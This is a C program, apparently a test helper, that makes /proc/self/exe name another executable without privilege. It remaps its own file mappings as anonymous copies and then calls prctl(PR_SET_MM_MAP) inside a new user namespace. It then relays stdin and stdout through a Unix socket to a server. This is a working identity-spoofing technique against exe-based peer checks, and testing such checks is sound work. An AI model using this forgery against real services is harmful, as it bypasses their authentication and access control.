/* Makes /proc/self/exe another program's, without privilege, then runs as client.c does: argv[1] forged executable,
 * argv[2] socket. Its own file mappings become anonymous copies in place, so that the kernel lets go of the real
 * executable; a child in a new user namespace that shares the memory then names the other file. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static struct prctl_mm_map map;
static int forged = -1;
static char stack[65536];

static int forge(void *unused) {
  (void)unused;
  forged = prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0);
  _exit(0);
}

static void unname(const char *own) {
  static struct { char *start; size_t size; int protection; } found[64];
  int count = 0;
  char line[4096 + 128], mode[5];
  FILE *maps = fopen("/proc/self/maps", "r");
  while (maps && fgets(line, sizeof line, maps) && count < 64) {
    unsigned long start, end;
    if (!strstr(line, own) || sscanf(line, "%lx-%lx %4s", &start, &end, mode) != 3) continue;
    found[count].start = (char *)start;
    found[count].size = end - start;
    found[count++].protection = (mode[0] == 'r') * PROT_READ | (mode[1] == 'w') * PROT_WRITE | (mode[2] == 'x') * PROT_EXEC;
  }
  fclose(maps);
  for (int i = 0; i < count; i++) {
    char *copy = mmap(0, found[i].size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(copy, found[i].start, found[i].size);
    mprotect(copy, found[i].size, found[i].protection);
    mremap(copy, found[i].size, found[i].size, MREMAP_MAYMOVE | MREMAP_FIXED, found[i].start);
  }
}

static void read_layout(void) {
  char text[4096] = {0};
  unsigned long long f[60] = {0};
  FILE *file = fopen("/proc/self/stat", "r");
  size_t n = fread(text, 1, sizeof text - 1, file);
  (void)n;
  fclose(file);
  char *word = strrchr(text, ')') + 2;
  strtok(word, " ");
  for (int i = 4; i < 60; i++) {
    char *next = strtok(0, " ");
    if (!next) break;
    f[i] = strtoull(next, 0, 10);
  }
  map.start_code = f[26]; map.end_code = f[27]; map.start_stack = f[28];
  map.start_data = f[45]; map.end_data = f[46]; map.start_brk = f[47]; map.brk = (uint64_t)sbrk(0);
  map.arg_start = f[48]; map.arg_end = f[49]; map.env_start = f[50]; map.env_end = f[51];
}

int main(int argc, char **argv) {
  char own[4096] = {0}, block[65536];
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  if (argc < 3 || readlink("/proc/self/exe", own, sizeof own - 1) < 0) return 2;
  read_layout();
  map.exe_fd = open(argv[1], O_RDONLY);
  unname(own);
  int child = clone(forge, stack + sizeof stack, CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, 0);
  if (child < 0) return 77;
  waitpid(child, 0, 0);
  if (forged) return 77;
  close(map.exe_fd);
  strncpy(address.sun_path, argv[2], sizeof address.sun_path - 1);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(s, (struct sockaddr *)&address, sizeof address)) return 1;
  struct pollfd ends[2] = {{.fd = 0, .events = POLLIN}, {.fd = s, .events = POLLIN}};
  for (;;) {
    poll(ends, 2, -1);
    if (ends[0].revents) {
      ssize_t n = read(0, block, sizeof block);
      if (n <= 0) { shutdown(s, SHUT_WR); ends[0].fd = -1; }
      else if (write(s, block, n) != n) return 1;
    }
    if (ends[1].revents) {
      ssize_t n = read(s, block, sizeof block);
      if (n <= 0 || write(1, block, n) != n) return 0;
    }
  }
}
